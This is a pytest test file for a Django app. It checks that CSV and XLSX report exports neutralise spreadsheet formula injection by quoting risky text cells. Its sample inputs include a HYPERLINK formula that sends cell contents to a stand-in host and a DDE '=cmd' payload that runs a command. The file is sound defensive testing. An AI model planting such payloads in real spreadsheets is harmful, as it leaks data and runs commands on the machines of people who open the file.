"""Exports never hand a spreadsheet a formula (found by the outside security review: CSV cells starting
with =, +, -, @ were written as they are). CSV text cells are prefixed with a quote, as OWASP
recommends; numbers stay numbers; XLSX writes text as text."""

import csv
import io

import openpyxl
import pandas as pd
import pytest
from django.urls import reverse

from reports.bundles import INT, JP, TEXT, Bundle, Column, View
from reports.exports import export_csv
from reports.selectors import ReportFilters
from reports.tests.factories import make_city
from shell.people.tests.factories import UserFactory, hr_user
from shell.spreadsheets import formula_safe

HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Siti", "", "1-2", "a=b", 5, -3.5, None])
def test_anything_else_is_as_it_is(value):
    assert formula_safe(value) == value


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_quotes_formula_text_and_keeps_numbers_numbers():
    frame = pd.DataFrame(
        {
            "name": HOSTILE + ["Biasa"],
            "jp": [-3.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0],  # a reversal may leave a negative total
            "count": [-1, 0, 1, 2, 3, 4, 5],
            "mixed": [-7, "-7", "=1", None, 2.5, "x", "@x"],
        }
    )
    columns = [Column("name", "Nama", TEXT), Column("jp", "JP", JP), Column("count", "=Jumlah", INT)]
    columns.append(Column("mixed", "Campur", TEXT))
    bundle = Bundle(
        report="r", title="T", filters=ReportFilters(year=2026), viewer=None, views=[View("v", "V", frame, columns)]
    )
    rows = _rows(export_csv(bundle))
    assert rows[0] == ["Nama", "JP", "'=Jumlah", "Campur"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE] + ["Biasa"]
    assert [row[1] for row in rows[1:]] == ["-3.5", "0.0", "1.0", "2.0", "3.0", "4.0", "5.0"]
    assert [row[2] for row in rows[1:]] == ["-1", "0", "1", "2", "3", "4", "5"]
    assert [row[3] for row in rows[1:]] == ["-7", "'-7", "'=1", "", "2.5", "x", "'@x"]


@pytest.mark.django_db
def test_the_downloaded_csv_and_xlsx_hold_no_formula(client):
    city = make_city()
    UserFactory(full_name='=HYPERLINK("http://x.example","klik")', unit=city.a1)
    UserFactory(full_name="@SUM(A1)", unit=city.a1)
    hr = hr_user(unit=city.a, full_name="=cmd|' /C calc'!A0")
    client.force_login(hr)
    data = {"tahun": 2026, "laporan": "kepatuhan", "tampilan": "pegawai"}
    text = client.post(reverse("reports:download"), {**data, "format": "csv"}).content.decode("utf-8-sig")
    assert '\'=HYPERLINK(""http://x.example"",""klik"")' in text and "'@SUM(A1)" in text
    assert not any(cell.startswith(("=", "+", "@")) for row in _rows(text.encode()) for cell in row)

    body = client.post(reverse("reports:download"), {**data, "format": "xlsx"}).content
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    names = {cell.value for cell in cells if cell.data_type == "s"}
    assert {'=HYPERLINK("http://x.example","klik")', "@SUM(A1)", "=cmd|' /C calc'!A0"} <= names  # as text
